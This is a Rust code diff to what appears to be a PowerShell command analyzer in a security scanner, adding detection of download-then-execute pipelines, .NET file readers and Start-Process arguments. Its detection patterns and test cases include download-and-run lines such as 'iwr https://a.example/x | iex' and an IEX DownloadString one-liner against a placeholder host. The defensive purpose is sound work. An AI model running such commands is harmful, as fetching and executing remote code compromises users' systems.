@@ -39,6 +39,26 @@ pub(super) fn describe(told: &mut Told, text: &str) {
     if downloads && (runs || lower.contains("iex")) {
         told.finding("shell.remote_code", "runs what it downloads");
     }
+    // `.NET`'s own readers.
+    for reader in ["readalltext(", "readalllines(", "readallbytes(", "readlines("] {
+        for (at, _) in lower.match_indices(reader) {
+            let inside = text.get(at + reader.len()..).and_then(|rest| rest.split(')').next()).unwrap_or_default();
+            told.read(&Value::literal(inside.trim().trim_matches(['\'', '"'])));
+        }
+    }
+    for pipeline in statements(text) {
+        let first = |words: &Vec<String>| words.first().map(|word| word.to_ascii_lowercase()).unwrap_or_default();
+        let fetched = pipeline.iter().position(|words| {
+            matches!(
+                first(words).as_str(),
+                "irm" | "iwr" | "curl" | "wget" | "invoke-webrequest" | "invoke-restmethod"
+            )
+        });
+        let ran = pipeline.iter().rposition(|words| matches!(first(words).as_str(), "iex" | "invoke-expression"));
+        if matches!((fetched, ran), (Some(fetched), Some(ran)) if fetched < ran) {
+            told.finding("shell.remote_code", "runs what it downloads");
+        }
+    }
     for part in text.split(['\'', '"']).filter(|part| part.contains("://") && !part.contains(' ')) {
         told.host(
             &Value::literal(part),
@@ -130,6 +150,21 @@ pub(super) fn describe(told: &mut Told, text: &str) {
         {
             continue;
         }
+        // A program and its words, in options of their own.
+        if matches!(first.to_ascii_lowercase().as_str(), "start-process" | "saps") {
+            let argv: Vec<Value> = words
+                .iter()
+                .skip(1)
+                .filter(|word| !word.starts_with('-'))
+                .flat_map(|word| word.split([',', '"', '\'', ' ']))
+                .filter(|word| !word.is_empty() && *word != "@(" && *word != ")")
+                .map(Value::literal)
+                .collect();
+            told.argv(&argv);
+            continue;
+        }
+        // Bash has a `type` too, which only tells what a name is.
+        let first = if first.eq_ignore_ascii_case("type") { "Get-Content".to_owned() } else { first };
         let values: Vec<Value> = std::iter::once(first)
             .chain(words.iter().skip(1).map(|word| word.trim_matches(['\'', '"']).to_owned()))
             .map(|word| Value::literal(if word.starts_with('$') { "…".to_owned() } else { word }))
@@ -191,7 +226,7 @@ mod tests {
             &[
                 ("Remove-Item -Recurse x", "argv Remove-Item -Recurse x"),
                 ("Get-ChildItem; rm y", "argv Get-ChildItem; argv rm y"),
-                ("iwr https://a.example/x | iex", "argv iwr https://a.example/x; argv iex"),
+                ("iwr https://a.example/x | iex", "remote_code; argv iwr https://a.example/x; argv iex"),
                 (
                     "IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')",
                     "fetch a.example; remote_code; argv IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')",
